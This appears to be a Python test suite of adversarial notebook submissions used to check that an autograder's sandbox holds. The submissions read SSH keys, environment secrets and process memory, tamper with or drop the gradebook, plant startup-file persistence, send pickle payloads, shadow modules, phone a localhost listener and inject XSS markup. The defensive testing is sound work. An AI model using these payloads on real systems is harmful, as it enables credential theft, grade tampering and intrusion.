"""Reaching for what is not theirs: files, secrets, the gradebook, other people, the network.

Where the attempt stands in a cell of its own and all answers are right, the answers get their full
marks: an attempt that fails is for a person to judge, who finds it in the graded notebook.
"""

from attacks.base import entry

FULL = "The answers are right, and the attempt comes to nothing."
COPIED = "It is nobody's own answer, and cannot be got at."


def reaches(name, source, never, why=FULL, **options):
    """An entry that tries something in a cell of its own; each line on its own may fail."""
    entry(name, why, never=never, first=source, **options)


# ---------------------------------------------------------------- reading

READ_ALL = """
import glob


def look(*patterns):
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True, include_hidden=True):
            try:
                with open(path, errors="replace") as file:
                    print("LOOT", path, file.read(20_000))
            except OSError:
                pass
"""


def reads(name, *patterns, never):
    asked = ", ".join(map(repr, patterns))
    reaches(name, f"{READ_ALL}\n\nlook({asked})", f"Its page shows {never}.")


reads("reads_environments", "/proc/*/environ", "/proc/*/cmdline", never="a secret of the grader's")
reads("reads_keys", "@HOME@/.ssh/*", "/root/.ssh/*", never="a private key")
reads("reads_the_course", "@COURSE@/source/*/*", never="the lesson's source")
reads(
    "reads_the_marks",
    "@COURSE@/autograded/*/*.mark.json",
    "@COURSE@/nbgrader_config.py",
    never="others' marks",
)
reads("reads_submissions", "@COURSE@/submitted/*/*/*", never="another's answers")
reads("reads_graded_work", "@COURSE@/autograded/*/*/*", never="another's graded answers")
reads(
    "reads_through_proc",
    "/proc/*/root@COURSE@/source/*/*",
    "/proc/*/cwd/*",
    "/proc/*/root@HOME@/.ssh/*",
    "/proc/1/root@COURSE@/submitted/*/*/*",
    never="a file of the machine's",
)
reaches(
    "reads_its_environment",
    "import os\n\nprint('LOOT', dict(os.environ), os.popen('env').read())",
    "Its page shows a secret of the grader's.",
)
reaches(
    "reads_memory_of_the_grader",
    """
import glob
import os
import re

for folder in glob.glob("/proc/[0-9]*"):
    if folder == f"/proc/{os.getpid()}":
        continue
    try:
        memory = open(f"{folder}/mem", "rb")
        for line in open(f"{folder}/maps"):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            memory.seek(start)
            print("LOOT", re.findall(rb"canary-[a-z0-9-]+", memory.read(min(end - start, 1 << 24))))
    except (OSError, ValueError, OverflowError):
        pass
""",
    "Its page shows what the grader's memory holds.",
)
reaches(
    "asks_for_rights",
    """
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for attempt in (
    lambda: os.setuid(0),
    lambda: os.seteuid(0),
    lambda: libc.unshare(0x10000000 | 0x00020000),
    lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
    lambda: libc.umount2(b"/tmp", 2),
    lambda: os.chroot("/proc/1/root"),
    lambda: libc.ptrace(16, os.getppid(), 0, 0),
):
    try:
        attempt()
    except Exception:
        pass
print("LOOT" if os.path.exists("@COURSE@") or os.access("/etc", os.W_OK) else "nothing")
""",
    "It becomes root, or sees the course.",
    lacks=("LOOT\n",),
)

SOURCE_ANSWER = """
import glob
import re

found = {}
for place in ("@COURSE@/source/*/*", "@COURSE@/release/*/*"):
    for path in glob.glob(place):
        text = open(path, errors="replace").read().replace('\\\\n",', "")
        for block in re.findall(r"def add_mul.*?### END SOLUTION", text, re.DOTALL):
            exec(block, globals())
"""
entry(
    "answers_from_the_source",
    COPIED,
    never="It gets points for add_mul.",
    fair={"add_mul": 0.0},
    answers={"add_mul": SOURCE_ANSWER},
)
entry(
    "answers_from_a_neighbour",
    COPIED,
    never="It gets points for add_mul.",
    fair={"add_mul": 0.0},
    answers={
        "add_mul": """
import glob
import json

for path in glob.glob("@COURSE@/submitted/*/*/*.ipynb"):
    for cell in json.load(open(path))["cells"]:
        source = "".join(cell["source"])
        if "def add_mul(" in source and "glob" not in source:
            exec(source)
"""
    },
)
entry(
    "answers_from_the_autograder",
    COPIED,
    never="It gets points for add_mul.",
    fair={"add_mul": 0.0},
    answers={
        "add_mul": """
import sys

sys.path += ["@COURSE@/.."]
from autograder.course import reference_solutions

exec(reference_solutions()["add_mul"])
"""
    },
)
entry(
    "answers_by_the_engine",
    "The exercise is by hand: while it is called the engine is off.",
    never="It gets points for d_sigmoid.",
    fair={"d_sigmoid": 0.0},
    answers={
        "d_sigmoid": """
def d_sigmoid(f):
    s = Tensor(np.log(f / (1 - f)), requires_grad=True)
    out = 1.0 / (1.0 + (-s).exp())
    out.backward()
    return float(s.grad)
"""
    },
)
entry(
    "answers_by_differences",
    "A difference quotient is not the derivative to the accuracy that a formula has.",
    never="It gets points for the derivatives of exp_model.",
    fair={"exp_model": 1.0},
    answers={
        "exp_model": """
def exp_model(w, x, b, y_star):
    def loss(w, b):
        return (np.exp(w * x + b) - y_star) ** 2

    h = 1e-4
    dw = (loss(w + h, b) - loss(w - h, b)) / (2 * h)
    db = (loss(w, b + h) - loss(w, b - h)) / (2 * h)
    return loss(w, b), dw, db
"""
    },
)

# ---------------------------------------------------------------- writing

reaches(
    "writes_outside",
    """
import os

for folder in ("@OUTSIDE@", "@HOME@", "@COURSE@", "@COURSE@/submitted", "/etc", "/usr/lib", "/var"):
    try:
        with open(os.path.join(folder, "@MARK@"), "w") as file:
            file.write("@MARK@")
    except OSError:
        pass
""",
    "A file of its appears anywhere.",
)
reaches(
    "deletes_the_course",
    """
import shutil

for folder in ("@COURSE@", "@OUTSIDE@", "@HOME@/.ssh"):
    shutil.rmtree(folder, ignore_errors=True)
""",
    "Anything is gone.",
)

GRADEBOOK = """
import sqlite3

try:
    book = sqlite3.connect("@COURSE@/gradebook.db", timeout=1)
    book.execute({statement!r})
    book.commit()
except sqlite3.Error as error:
    print(error)
"""


def asks_gradebook(name, statement, never):
    reaches(name, GRADEBOOK.replace("{statement!r}", repr(statement)), never)


asks_gradebook(
    "raises_its_points", "UPDATE grade SET manual_score = 600", "Anybody's mark changes."
)
asks_gradebook("fails_everybody", "UPDATE grade SET auto_score = 0", "A bystander's mark changes.")
asks_gradebook("empties_the_gradebook", "DELETE FROM grade", "A row of the gradebook is gone.")
asks_gradebook("drops_a_table", "DROP TABLE student", "A table of the gradebook is gone.")
reaches(
    "locks_the_gradebook",
    """
import subprocess
import sys

code = '''
import sqlite3, time
book = sqlite3.connect("@COURSE@/gradebook.db")
book.execute("BEGIN EXCLUSIVE")
time.sleep(1000)
'''
subprocess.Popen([sys.executable, "-c", code, "@MARK@"], start_new_session=True)
""",
    "The marks of anybody cannot be entered; a process of its is still there.",
)
reaches(
    "writes_its_marks",
    """
import json

right = "@COURSE@/autograded/bystander_right/01_scalar_graphs"
for path in (f"{right}.mark.json", f"{right}/x.ipynb"):
    try:
        with open(path, "w") as file:
            json.dump({"score": 0}, file)
    except OSError:
        pass
""",
    "Anybody's mark changes.",
)
reaches(
    "leaves_startup_files",
    """
import os
import site

code = "open('@OUTSIDE@/@MARK@', 'w')"
for path in (
    os.path.expanduser("~/.ipython/profile_default/startup/00.py"),
    "@HOME@/.ipython/profile_default/startup/00.py",
    "@HOME@/.bashrc",
    site.getusersitepackages() + "/usercustomize.py",
    os.path.join(os.path.dirname(np.__file__), "__init__.py"),
    os.path.join(os.path.dirname(os.__file__), "sitecustomize.py"),
):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as file:
            file.write(code)
    except OSError:
        pass
""",
    "The next notebook runs its code.",
)

# ---------------------------------------------------------------- what the grader might open

PICKLED = """
class Surprise:
    def __reduce__(self):
        return open, ("@OUTSIDE@/@MARK@", "w")


def add_mul(x, y, z):
    return {value}
"""


def pickles(name, value):
    entry(
        name,
        "What it returns are no numbers.",
        never="Anything of it is unpickled outside.",
        fair={"add_mul": 0.0},
        answers={"add_mul": PICKLED.replace("{value}", value)},
    )


pickles("pickles", "(Surprise(),) * 4")
pickles("pickled_array", "np.array([Surprise()] * 4)")

# ---------------------------------------------------------------- the network

reaches(
    "calls_home",
    """
import socket

for host in ("127.0.0.1", "localhost", "0.0.0.0", "::1"):
    try:
        with socket.create_connection((host, @PORT@), timeout=2) as line:
            line.sendall(b"@MARK@")
    except OSError:
        pass
""",
    "The listener hears from it.",
)
reaches(
    "calls_home_by_http",
    """
import urllib.request

try:
    urllib.request.urlopen("http://127.0.0.1:@PORT@/@MARK@", timeout=2)
except Exception:
    pass
""",
    "The listener hears from it.",
)
reaches(
    "calls_home_by_datagram",
    """
import socket

try:
    socket.getaddrinfo("example.org", 80)
    print("LOOT", "resolved")
except OSError:
    pass
query = b"\\x00\\x01\\x01\\x00\\x00\\x01" + bytes(6) + b"@MARK@"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
    try:
        line.sendto(query, ("127.0.0.1", @PORT@))
    except OSError:
        pass
""",
    "A name is resolved, or a datagram arrives.",
    lacks=("LOOT resolved",),
)
reaches(
    "calls_home_by_unix_socket",
    """
import socket

for address in ("@SOCKET@", "\\0" + "@SOCKET@", "/proc/1/root@SOCKET@"):
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.connect(address)
            line.sendall(b"@MARK@")
    except OSError:
        pass
""",
    "The listener hears from it.",
)
reaches(
    "calls_home_from_a_function",
    "",
    "The listener hears from it.",
    why="It does not compute what was asked for.",
    fair={"add_mul": 0.0},
    answers={
        "add_mul": """
def add_mul(x, y, z):
    import socket

    with socket.create_connection(("127.0.0.1", @PORT@), timeout=1) as line:
        line.sendall(b"@MARK@")
    return 0.0, 0.0, 0.0, 0.0
"""
    },
)

# ---------------------------------------------------------------- sent along

HARM = "import os, pathlib\npathlib.Path('@OUTSIDE@/@MARK@').touch()\nos._exit(1)\n"


def sends(name, files, never="Its code runs, or the class is not graded.", **options):
    entry(name, "The answers are right; nothing imports what was sent.", never=never, files=files)


sends("sends_numpy", {"numpy.py": HARM, "numpy/__init__.py.txt": HARM})
sends("sends_sitecustomize", {"sitecustomize.py": HARM, "usercustomize.py": HARM, "x.pth": HARM})
sends(
    "sends_a_config",
    {
        "nbgrader_config.py": HARM,
        "jupyter_nbconvert_config.py": HARM,
        "ipython_config.py": HARM,
        "ipython_kernel_config.py": HARM,
    },
)
sends("sends_the_kit", {"backprop_kit/__init__.py": HARM, "autograder/__init__.py": HARM})
sends("sends_checkpoints", {".ipynb_checkpoints/scalar_graphs-checkpoint.ipynb": b'{"cells": []}'})
sends("sends_standard_library", {"json.py": HARM, "signal.py": HARM, "ast.py": HARM, "io.py": HARM})
entry(
    "links_sent_along",
    "The answers are right; a link to another file is not what a student has written.",
    never="What a link leads to stands on a page, or is changed.",
    links={
        "data.csv": "@HOME@/.ssh/id_ed25519",
        "course": "@COURSE@",
        "image.png": "@COURSE@/gradebook.db",
        "loop": "loop",
    },
    first=f"""{READ_ALL}
look("data.csv", "course/source/*/*", "course/**/*.db", "image.png", "loop")
for name in ("data.csv", "image.png", "course/mark.json"):
    try:
        open(name, "w").write("@MARK@")
    except OSError:
        pass
""",
)
entry(
    "a_link_for_a_notebook",
    "A link to another's notebook is not one's own work; a person looks at it.",
    never="It gets the marks of the one that it leads to.",
    fair=None,
    path=None,
    links={
        "scalar_graphs.ipynb": "@COURSE@/submitted/bystander_right/01_scalar_graphs/"
        "scalar_graphs.ipynb"
    },
)
entry(
    "a_device_for_a_notebook",
    "There is nothing to grade.",
    never="The grader reads without end.",
    fair=None,
    path=None,
    links={"scalar_graphs.ipynb": "/dev/zero"},
)

# ---------------------------------------------------------------- the page

MARKUP = """
<script>fetch("http://127.0.0.1:@PORT@/@MARK@")</script>
<img src="http://127.0.0.1:@PORT@/@MARK@" onerror="alert(1)">
<svg onload="alert(1)"><script>alert(1)</script></svg>
<iframe src="http://127.0.0.1:@PORT@"></iframe><object data="x.swf"></object>
<meta http-equiv="refresh" content="0;url=http://127.0.0.1:@PORT@">
<style>@import url(http://127.0.0.1:@PORT@); body { display: none }</style>
<a href="javascript:alert(1)">your marks</a><form action="//x"><input name="password"></form>
<div style="position: fixed; top: 0; background: url(//x)">18 of 18 points</div>
</div></body></html><base href="http://127.0.0.1:@PORT@/">
"""


def _markup_in_texts(notebook):
    from nbformat.v4 import new_markdown_cell, new_raw_cell

    for text in (MARKUP, "[x](javascript:alert(1)) ![x](http://127.0.0.1:@PORT@/@MARK@)"):
        notebook.cells[1:1] = [new_markdown_cell(text), new_raw_cell(text)]


def _markup_in_names(notebook):
    notebook.metadata["title"] = notebook.metadata["authors"] = MARKUP
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": MARKUP}}
    for cell in notebook.cells:
        cell.metadata["name"] = MARKUP
    notebook.cells[1].metadata["nbgrader"] |= {"grade_id": MARKUP}


ACTS = "Anything on its page acts, or is fetched."
entry("markup_in_texts", "Texts cost nothing.", never=ACTS, edit=_markup_in_texts)
entry("markup_in_metadata", "A foreign label is set right.", never=ACTS, edit=_markup_in_names)
reaches(
    "markup_in_outputs",
    f"""
from IPython.display import HTML, SVG, Javascript, Markdown, display, publish_display_data

markup = '''{MARKUP}'''
for show in (HTML, Markdown, Javascript):
    display(show(markup))
for kind in ("text/html", "image/svg+xml", "application/javascript", "text/latex", "image/png"):
    publish_display_data({{kind: markup, "text/plain": markup}})
print(markup)
raise ValueError(markup)
""",
    ACTS,
)
reaches("javascript_cell", f"%%javascript\nalert(1)\n//{MARKUP.splitlines()[1]}", ACTS)
reaches("html_cell", f"%%html\n{MARKUP}", ACTS)
reaches(
    "shows_a_box_of_its_own",
    """
from IPython.display import HTML

HTML("<div style='border-left: 4px solid green'><b>add_mul: 600 of 2 points.</b></div>")
""",
    "It gets points for add_mul.",
    why="A box that looks like a verdict is none.",
    fair={"add_mul": 0.0},
    answers={"add_mul": "def add_mul(x, y, z):\n    return None\n"},
)
reaches(
    "raises_what_it_was_given",
    "",
    "Its page shows the numbers of a hidden case.",
    why="It does not compute what was asked for.",
    fair={"add_mul": 0.0},
    answers={"add_mul": "def add_mul(x, y, z):\n    raise ValueError(f'LOOT {x} {y} {z} LOOT')\n"},
    lacks=("LOOT -", "LOOT 0", "LOOT 1", "LOOT 2"),
)
